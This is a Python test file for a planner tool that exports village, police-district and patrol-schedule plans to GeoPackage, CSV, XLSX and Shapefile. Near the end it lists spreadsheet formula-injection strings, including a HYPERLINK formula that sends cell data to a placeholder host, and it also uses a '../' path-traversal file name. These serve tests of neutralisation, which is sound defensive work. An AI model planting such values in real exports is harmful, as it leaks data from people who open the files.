"""Tests of planner.io.plan_files: a plan directory written atomically and read back unchanged."""

from __future__ import annotations

import datetime as dt
import json
import os
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

from planner.errors import ValidationError
from planner.io import read_plan_dir, write_plan_dir
from planner.model import SCHEDULE_COLUMNS, PlanData

UTM48N = "EPSG:32648"


def _plan(*, with_current: bool = True) -> PlanData:
    """A small plan in a metric CRS: 4 villages with Chinese names, 2 districts, 2 officers."""
    ids = ["532527100201", "532527100202", "532527100203", "532527100204"]
    polys = [
        shapely.box(
            370000 + 2000 * (k % 2),
            2710000 + 2000 * (k // 2),
            372000 + 2000 * (k % 2),
            2712000 + 2000 * (k // 2),
        )
        for k in range(4)
    ]
    villages = gpd.GeoDataFrame(
        {
            "village_id": ids,
            "name": ["张家村", "李家寨", "王家营", "石洞村"],
            "township": ["中枢镇", "中枢镇", "金马镇", "金马镇"],
            "population": np.array([1200, 2300, 0, 850], dtype=np.int64),
            "district_id": ["D1", "D1", "D2", "D2"],
            "office_id": ["O1", "O1", "O2", "O2"],
            "travel_min_to_office": [0.0, 6.5, 0.0, np.nan],
            "access": ["road", "road", "road", "walk"],
            "population_source": ["given"] * 4,
        },
        geometry=polys,
        crs=UTM48N,
    )
    districts = gpd.GeoDataFrame(
        {
            "district_id": ["D1", "D2"],
            "n_villages": [2, 2],
            "population": [3500, 850],
            "officers": [1, 1],
            "office_id": ["O1", "O2"],
            "max_travel_min": [6.5, np.nan],
            "mean_travel_min": [3.25, 0.0],
        },
        geometry=[shapely.union_all(polys[:2]), shapely.union_all(polys[2:])],
        crs=UTM48N,
    )
    offices = gpd.GeoDataFrame(
        {
            "office_id": ["O1", "O2"],
            "village_id": [ids[0], ids[2]],
            "district_id": ["D1", "D2"],
            "officers": [1, 1],
        },
        geometry=[polys[0].centroid, polys[2].centroid],
        crs=UTM48N,
    )
    day = dt.date(2026, 12, 1)
    routes = gpd.GeoDataFrame(
        {
            "officer_id": ["P01", "P01"],
            "date": [day, day],
            "seq": [1, 2],
            "from_id": ["O1", ids[1]],
            "to_id": [ids[1], "O1"],
            "minutes": [6.5, 6.5],
            "km": [3.1, 3.1],
        },
        geometry=[
            shapely.LineString([polys[0].centroid, polys[1].centroid]),
            shapely.LineString([polys[1].centroid, polys[0].centroid]),
        ],
        crs=UTM48N,
    )
    schedule = pd.DataFrame(
        {
            "officer_id": ["P01", "P01", "P02", "警员/3"],
            "date": [day, day, dt.date(2026, 12, 2), dt.date(2026, 12, 2)],
            "start": ["08:00", "08:07", "20:00", "09:00"],
            "end": ["08:07", "12:07", "21:00", "17:00"],
            "village_id": [ids[1], ids[1], ids[3], ""],
            "activity": ["travel", "visit", "night_visit", "office"],
            "minutes": [7.0, 240.0, 60.0, 480.0],
        }
    )
    summary = {
        "villages": np.int64(4),
        "population": 4350,
        "districts": 2,
        "max_travel_min": float("inf"),
        "coverage_pct": {"15": 75.0, "30": 100.0, "60": 100.0},
        "unreachable_villages": [],
        "violations": [{"rule": "R1", "subject": "D1", "detail": "警务区只有 2 个村"}],
        "month": dt.date(2026, 12, 1),
    }
    current = None
    if with_current:
        current = villages[["village_id", "name", "township", "population", "geometry"]].assign(
            district_id=["旧1", "旧1", "旧1", "旧2"]
        )
    return PlanData(
        villages=villages,
        districts=districts,
        offices=offices,
        summary=summary,
        routes=routes,
        schedule=schedule,
        current=current,
    )


def test_plan_dir_round_trip(tmp_path: Path) -> None:
    """Every layer, the schedule and the summary come back equal, with Chinese text intact, in WGS-84."""
    plan = _plan()
    out = write_plan_dir(
        plan, tmp_path / "plan", extra_files={"map.html": "<html>地图</html>", "img/logo.png": b"\x89PNG"}
    )
    names = sorted(p.name for p in out.iterdir())
    assert names == [
        ".planner-plan",
        "img",
        "map.html",
        "plan.gpkg",
        "schedule.csv",
        "schedule.xlsx",
        "summary.json",
    ]
    assert (out / "map.html").read_text(encoding="utf-8") == "<html>地图</html>"
    assert (out / "img" / "logo.png").read_bytes() == b"\x89PNG"
    layers = {str(n) for n, _ in pyogrio.list_layers(out / "plan.gpkg")}
    assert layers == {"villages", "districts", "offices", "routes", "current"}

    back = read_plan_dir(out)
    v = back.villages
    assert back.villages.crs.to_epsg() == 4326
    assert list(v.columns[:8]) == [
        "village_id",
        "name",
        "township",
        "population",
        "district_id",
        "office_id",
        "travel_min_to_office",
        "access",
    ]
    assert list(v["name"]) == ["张家村", "李家寨", "王家营", "石洞村"]
    assert list(v["village_id"]) == list(plan.villages["village_id"])
    assert v["population"].dtype == np.int64 and list(v["population"]) == [1200, 2300, 0, 850]
    assert np.isnan(v["travel_min_to_office"].iloc[3])
    assert "population_source" in v.columns
    expected = plan.villages.to_crs(4326).geometry
    assert v.geometry.geom_equals_exact(expected, tolerance=1e-9).all()
    assert list(back.districts["district_id"]) == ["D1", "D2"]
    assert list(back.offices["village_id"]) == ["532527100201", "532527100203"]
    assert list(back.routes["date"]) == ["2026-12-01", "2026-12-01"]
    assert list(back.routes["seq"]) == [1, 2]
    assert back.current is not None and list(back.current["district_id"]) == ["旧1", "旧1", "旧1", "旧2"]

    assert list(back.schedule.columns) == SCHEDULE_COLUMNS
    assert list(back.schedule["date"]) == ["2026-12-01", "2026-12-01", "2026-12-02", "2026-12-02"]
    assert list(back.schedule["officer_id"]) == ["P01", "P01", "P02", "警员/3"]
    assert list(back.schedule["minutes"]) == [7.0, 240.0, 60.0, 480.0]
    assert back.summary["max_travel_min"] is None  # infinity is not JSON
    assert back.summary["violations"][0]["detail"] == "警务区只有 2 个村"
    assert back.summary["month"] == "2026-12-01"
    assert back.summary["villages"] == 4


def test_summary_json_is_readable_and_deterministic(tmp_path: Path) -> None:
    """summary.json keeps Chinese unescaped, sorts keys and is byte-identical across two writes."""
    a = write_plan_dir(_plan(), tmp_path / "a")
    b = write_plan_dir(_plan(), tmp_path / "b")
    text = (a / "summary.json").read_text(encoding="utf-8")
    assert "警务区只有 2 个村" in text
    assert text == json.dumps(json.loads(text), ensure_ascii=False, indent=2, sort_keys=True) + "\n"
    for name in ("summary.json", "schedule.csv"):
        assert (a / name).read_bytes() == (b / name).read_bytes()


def test_schedule_csv_has_bom_and_xlsx_has_officer_sheets(tmp_path: Path) -> None:
    """schedule.csv starts with a UTF-8 BOM (Excel shows Chinese); schedule.xlsx has 'all' and one sheet each."""
    out = write_plan_dir(_plan(), tmp_path / "plan")
    raw = (out / "schedule.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw[3:].decode("utf-8").splitlines()[0] == ",".join(SCHEDULE_COLUMNS)
    wb = openpyxl.load_workbook(out / "schedule.xlsx", read_only=True)
    assert wb.sheetnames == ["全部", "汇总", "P01", "P02", "警员_3"]  # '/' is not allowed in a sheet name
    assert wb["全部"].max_row == 5
    rows = list(wb["P01"].iter_rows(values_only=True))
    assert rows[0] == (
        "民警",
        "日期",
        "开始",
        "结束",
        "村代码",
        "村名",
        "乡镇",
        "事项",
        "分钟",
        "其中步行分钟",
        "备注",
    )
    assert [r[7] for r in rows[1:]] == ["路途", "走访"]
    wb.close()


def test_shapefile_export_in_gbk(tmp_path: Path) -> None:
    """shapefile_encoding='GBK' adds shp/ with every non-empty layer as a GBK Shapefile with a .cpg."""
    out = write_plan_dir(_plan(), tmp_path / "plan", shapefile_encoding="GBK")
    shp = out / "shp"
    assert sorted(p.name for p in shp.glob("*.shp")) == [
        "current.shp",
        "districts.shp",
        "offices.shp",
        "routes.shp",
        "villages.shp",
    ]
    assert (shp / "villages.cpg").read_text().strip().upper() == "GBK"
    assert "张家村".encode("gbk") in (shp / "villages.dbf").read_bytes()
    gdf = pyogrio.read_dataframe(shp / "villages.shp")
    assert list(gdf["name"]) == ["张家村", "李家寨", "王家营", "石洞村"]
    assert "travel_min" in gdf.columns  # travel_min_to_office cut to the 10 bytes a .dbf field name holds


def test_empty_routes_and_schedule(tmp_path: Path) -> None:
    """A plan without a patrol plan (districts only) writes and reads back empty routes and schedule."""
    full = _plan(with_current=False)
    plan = PlanData(villages=full.villages, districts=full.districts, offices=full.offices, summary={})
    back = read_plan_dir(write_plan_dir(plan, tmp_path / "plan"))
    assert len(back.routes) == 0 and len(back.schedule) == 0
    assert list(back.schedule.columns) == SCHEDULE_COLUMNS
    assert back.current is None


def test_read_plan_gpkg_path_and_refuse_clobber(tmp_path: Path) -> None:
    """read_plan_dir accepts plan.gpkg itself; writing over a plan needs overwrite."""
    out = write_plan_dir(_plan(), tmp_path / "plan")
    back = read_plan_dir(out / "plan.gpkg")
    assert back.summary["districts"] == 2 and len(back.schedule) == 4
    with pytest.raises(ValidationError, match=r"not empty; pass --overwrite"):
        write_plan_dir(_plan(), out)
    write_plan_dir(_plan(with_current=False), out, overwrite=True)
    assert read_plan_dir(out).current is None


def test_missing_layer_or_column_is_named(tmp_path: Path) -> None:
    """A plan.gpkg without a layer, or a layer without a column (a QGIS edit), names it."""
    out = write_plan_dir(_plan(with_current=False), tmp_path / "plan")
    gpkg = out / "plan.gpkg"
    edited = tmp_path / "edited" / "plan.gpkg"
    edited.parent.mkdir()
    for name in ("villages", "districts", "routes"):
        layer = pyogrio.read_dataframe(gpkg, layer=name)
        if name == "villages":
            layer = layer.drop(columns=["population"])
        pyogrio.write_dataframe(layer, edited, layer=name, append=edited.exists())
    with pytest.raises(ValidationError, match=r"missing layer\(s\) offices"):
        read_plan_dir(edited.parent)
    pyogrio.write_dataframe(
        pyogrio.read_dataframe(gpkg, layer="offices"), edited, layer="offices", append=True
    )
    with pytest.raises(ValidationError, match=r"layer 'villages' lacks column\(s\) population"):
        read_plan_dir(edited)
    with pytest.raises(ValidationError, match=r"plan .*nothing not found"):
        read_plan_dir(tmp_path / "nothing")
    (tmp_path / "empty").mkdir()
    with pytest.raises(ValidationError, match=r"empty has no plan\.gpkg"):
        read_plan_dir(tmp_path / "empty")


def test_bad_extra_file_name_and_missing_column_write_nothing(tmp_path: Path) -> None:
    """An extra file escaping the directory, or a layer lacking a column, is refused before writing."""
    with pytest.raises(ValidationError, match=r"'\.\./x\.html' must be a relative path"):
        write_plan_dir(_plan(), tmp_path / "plan", extra_files={"../x.html": "x"})
    plan = _plan()
    broken = PlanData(
        villages=plan.villages.drop(columns=["access"]),
        districts=plan.districts,
        offices=plan.offices,
        summary={},
    )
    with pytest.raises(ValidationError, match=r"'villages' lacks column\(s\) access"):
        write_plan_dir(broken, tmp_path / "plan")
    assert list(tmp_path.iterdir()) == []


def test_overwrite_replaces_only_a_plan_directory(tmp_path: Path) -> None:
    """overwrite replaces a directory carrying the marker, or a 0.1 plan holding only plan files; a folder
    with anything else is refused and kept, even with overwrite."""
    from planner.io.files import PLAN_MARKER

    out = write_plan_dir(_plan(), tmp_path / "plan")
    assert (out / PLAN_MARKER).is_file()
    write_plan_dir(_plan(), out, overwrite=True)
    (out / PLAN_MARKER).unlink()  # a plan of planner 0.1: no marker, only plan files
    write_plan_dir(_plan(), out, overwrite=True)
    assert (out / PLAN_MARKER).is_file()
    (out / PLAN_MARKER).unlink()
    (out / "letter.docx").write_bytes(b"mine")
    with pytest.raises(ValidationError, match=r"not a planner plan \(letter.docx\)"):
        write_plan_dir(_plan(), out, overwrite=True)
    assert (out / "letter.docx").read_bytes() == b"mine"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1",
    "-V1",
    "@SUM(A1)",
    "\tP",
    "\rP",
    "P;=1+1",
]


def _hostile_plan() -> PlanData:
    """The small plan with officer and village ids that a spreadsheet would run as formulas."""
    plan = _plan(with_current=False)
    n = len(HOSTILE)
    schedule = pd.DataFrame(
        {
            "officer_id": HOSTILE,
            "date": ["2026-12-01"] * n,
            "start": ["08:00"] * n,
            "end": ["09:00"] * n,
            "village_id": list(reversed(HOSTILE)),
            "activity": ["visit"] * n,
            "minutes": [-2.5, *([60.0] * (n - 1))],
        }
    )
    return PlanData(
        villages=plan.villages,
        districts=plan.districts,
        offices=plan.offices,
        summary=plan.summary,
        routes=plan.routes,
        schedule=schedule,
    )


def test_schedule_cells_that_look_like_formulas_are_neutralised(tmp_path: Path) -> None:
    """Text cells beginning with = + - @ tab or CR get a leading ' in schedule.csv and schedule.xlsx (OWASP),
    every text cell of the CSV is quoted then, numbers stay numbers, and the plan reads back unchanged."""
    out = write_plan_dir(_hostile_plan(), tmp_path / "plan")
    text = (out / "schedule.csv").read_text(encoding="utf-8-sig")
    assert '"\'=1+1"' in text and '"\'@SUM(A1)"' in text and '"\'-V1"' in text
    assert ",-2.5\n" in text.replace("\r\n", "\n")  # a negative number is a number, not text to neutralise
    rows = pd.read_csv(out / "schedule.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    for col in ("officer_id", "village_id"):
        assert not rows[col].str.startswith(("=", "+", "-", "@", "\t", "\r")).any(), rows[col].tolist()
    book = openpyxl.load_workbook(out / "schedule.xlsx")
    for ws in book.worksheets:
        assert not ws.title.startswith(("=", "+", "-", "@")) and not set(ws.title) & set("[]:*?/\\\t\r")
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    assert book["全部"]["I2"].value == -2.5
    back = read_plan_dir(out)
    assert back.schedule["officer_id"].tolist() == HOSTILE
    assert back.schedule["village_id"].tolist() == list(reversed(HOSTILE))


def test_plain_schedule_csv_is_written_as_before(tmp_path: Path) -> None:
    """A schedule with no cell to neutralise is written exactly as pandas writes it (the demo's bytes stay),
    its whole minutes as whole numbers (480, not the 480.0 a float column would print)."""
    plan = _plan(with_current=False)
    out = write_plan_dir(plan, tmp_path / "plan")
    expected = plan.schedule.assign(
        date=plan.schedule["date"].map(lambda d: d.isoformat()),
        minutes=plan.schedule["minutes"].astype("int64"),
    )
    assert (out / "schedule.csv").read_bytes() == expected.to_csv(index=False).encode("utf-8-sig").replace(
        b"\n", os.linesep.encode()
    )


def test_full_disk_while_writing_is_an_input_error_and_keeps_the_old_plan(
    tmp_path: Path, monkeypatch
) -> None:
    """ENOSPC while the plan is written: a ValidationError naming --out and the fix; the old plan stays and no
    temporary folder is left."""
    import errno

    out = write_plan_dir(_plan(), tmp_path / "plan")
    before = sorted(p.name for p in out.iterdir())

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("planner.io.plan_files.write_table_csv", full)
    with pytest.raises(ValidationError, match=r"--out .*No space left on device.*free some disk space"):
        write_plan_dir(_plan(), out, overwrite=True)
    assert sorted(p.name for p in out.iterdir()) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan"]
